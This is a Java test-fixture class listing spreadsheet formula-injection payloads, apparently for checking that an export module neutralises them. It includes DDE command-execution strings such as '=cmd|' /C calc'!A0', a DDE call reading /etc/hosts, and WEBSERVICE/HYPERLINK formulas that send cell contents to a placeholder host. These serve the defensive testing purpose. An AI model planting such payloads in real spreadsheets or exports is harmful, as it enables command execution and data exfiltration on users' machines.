package dev.outreach.output.spreadsheet;

import java.util.ArrayList;
import java.util.List;

/** Texts that try to become a formula: what begins one, behind what a program may pass over. */
final class Payloads {
  private static final List<String> BEFORE =
      List.of(
          "",
          " ",
          "   ",
          "\u00a0",
          "\u202f",
          "\u3000",
          "\ufeff",
          "\u200b",
          "\u2060",
          "\u200e",
          "\u00ad",
          "'",
          "\"",
          "\t",
          "\n",
          "\r",
          " \ufeff ");

  private static final List<String> FORMULAS =
      List.of(
          "=1+1",
          "=cmd|' /C calc'!A0",
          "=HYPERLINK(\"http://example.org/\"&A1,\"open\")",
          "=WEBSERVICE(\"http://example.org/?\"&A1)",
          "=DDE(\"soffice\",\"/etc/hosts\",\"A1\")",
          "+33 1 99 00 12 34",
          "+1+1",
          "-1+1",
          "-2+3+cmd|' /C calc'!A0",
          "@SUM(1+1)*cmd|' /C calc'!A0",
          "\uff1d1+1",
          "\uff0b1+1",
          "\uff0d1+1",
          "\uff20SUM(1)");

  /** What tries to leave its cell. */
  private static final List<String> OUT_OF_THE_CELL =
      List.of(
          "x;=1+1",
          "x,=1+1",
          "x\";=1+1;\"",
          "x\",=1+1,\"",
          "x\r\n=1+1",
          "x\n=1+1",
          "x\t=1+1",
          "\"=1+1\"",
          "\",\"=1+1",
          "_x003D_1+1",
          "</t></si><si><t>=1+1",
          "</v><f>1+1</f>",
          "]]>=1+1",
          "{=1+1}",
          "sep=;");

  private Payloads() {}

  static List<String> all() {
    List<String> all = new ArrayList<>(OUT_OF_THE_CELL);
    for (String before : BEFORE) {
      FORMULAS.forEach(formula -> all.add(before + formula));
    }
    return all;
  }
}
